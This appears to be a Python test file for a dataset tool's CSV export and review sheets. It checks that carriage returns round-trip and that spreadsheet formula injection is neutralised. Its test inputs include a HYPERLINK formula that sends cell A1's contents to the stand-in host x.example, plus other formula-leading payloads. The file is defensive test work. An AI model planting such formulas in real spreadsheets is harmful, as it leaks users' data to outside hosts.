"""Issue 11, item 8: every CSV we write reads back (a lone \\r in a quoted cell), and sheets meant
for spreadsheets never carry a live formula, while release exports stay byte-faithful."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from cvqa_real_helpers import sample_csv, sample_images

from whatifbench.cli.main import main
from whatifbench.core.csvtext import csv_line, from_spreadsheet, to_spreadsheet
from whatifbench.core.dataset import load_dataset
from whatifbench.review.html import CSV_JS

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "'=already quoted", "plain"]


def _imported(shared_dir: Path, tmp_path: Path, questions: list[str]) -> Path:
    """The release sample with its first queries replaced (quoted as any CSV writer does),
    imported as ``tmp_path/ds``."""
    with open(sample_csv(shared_dir), encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for k, question in enumerate(questions, start=1):
        rows[k][1] = question
    path = tmp_path / "release.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC).writerows(rows)
    images = tmp_path / "coco"
    sample_images(shared_dir, images)
    assert main(["import", "cvqa-real", "--csv", str(path), "--images", str(images),
                 "--out", str(tmp_path / "ds")]) == 0
    return tmp_path / "ds"


def _items(folder: Path) -> list[str]:
    return [i.question for i in load_dataset(folder).items]


def _review_keeps_the_texts(ds: Path, sheet: Path, out: Path) -> None:
    assert main(["review", "import", str(ds), str(sheet), "--out", str(out)]) == 0
    assert _items(out) == _items(ds)


def test_a_lone_carriage_return_survives_export_review_and_reimport(
        shared_dir: Path, tmp_path: Path) -> None:
    question = "How many cats are there\rif one leaves?"
    ds = _imported(shared_dir, tmp_path, [question])
    assert question in _items(ds)
    assert main(["export", str(ds), "--format", "cvqa-csv", "--out",
                 str(tmp_path / "x")]) == 0
    assert f'"{question}"'.encode() in (tmp_path / "x" / "questions.csv").read_bytes()
    assert main(["import", "cvqa-real", "--csv", str(tmp_path / "x" / "questions.csv"),
                 "--images", str(tmp_path / "x" / "images"), "--out",
                 str(tmp_path / "back")]) == 0  # before: "has 2 columns"
    assert _items(tmp_path / "back") == _items(ds)
    assert main(["review", "export", str(ds), "--out", str(tmp_path / "s.csv")]) == 0
    _review_keeps_the_texts(ds, tmp_path / "s.csv", tmp_path / "reviewed")


def test_review_sheets_carry_no_formulas_and_round_trip(shared_dir: Path, tmp_path: Path) -> None:
    ds = _imported(shared_dir, tmp_path, EVIL)
    sheet = tmp_path / "s.csv"
    assert main(["review", "export", str(ds), "--out", str(sheet)]) == 0
    with open(sheet, encoding="utf-8", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" in cells
    assert "''=already quoted" in cells and "plain" in cells
    # importing the sheet as exported gives back exactly the same texts
    _review_keeps_the_texts(ds, sheet, tmp_path / "reviewed")
    # ... and so does a sheet saved by a spreadsheet, which drops the quote prefix
    (tmp_path / "saved.csv").write_bytes(sheet.read_bytes().replace(b"'=HYPERLINK", b"=HYPERLINK"))
    _review_keeps_the_texts(ds, tmp_path / "saved.csv", tmp_path / "saved")


def test_release_exports_stay_verbatim(shared_dir: Path, tmp_path: Path) -> None:
    ds = _imported(shared_dir, tmp_path, EVIL)
    assert main(["export", str(ds), "--format", "cvqa-csv", "--out",
                 str(tmp_path / "x")]) == 0
    with open(tmp_path / "x" / "questions.csv", encoding="utf-8", newline="") as handle:
        queries = [row[1] for row in csv.reader(handle)][1:len(EVIL) + 1]
    assert queries == EVIL  # a machine format: what the data says, nothing added


@pytest.mark.parametrize("value", [*EVIL, "", "a,b", 'say "x"', "two\nlines", "x\ry", "'"])
def test_csv_cells_read_back(value: str) -> None:
    for cell in (value, to_spreadsheet(value)):
        line = csv_line(["k", cell, "z"])
        assert list(csv.reader(io.StringIO(line, newline=""))) == [["k", cell, "z"]]
    assert from_spreadsheet(to_spreadsheet(value)) == value
    assert not to_spreadsheet(value).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_the_html_sheet_writes_the_same_safe_cells() -> None:
    script = CSV_JS + f"\nprocess.stdout.write(csvLine({json.dumps(EVIL)}) + '\\n');"
    out = subprocess.run(["node", "-e", script], capture_output=True, check=True, timeout=30)
    assert out.stdout.decode("utf-8") == csv_line([to_spreadsheet(v) for v in EVIL])
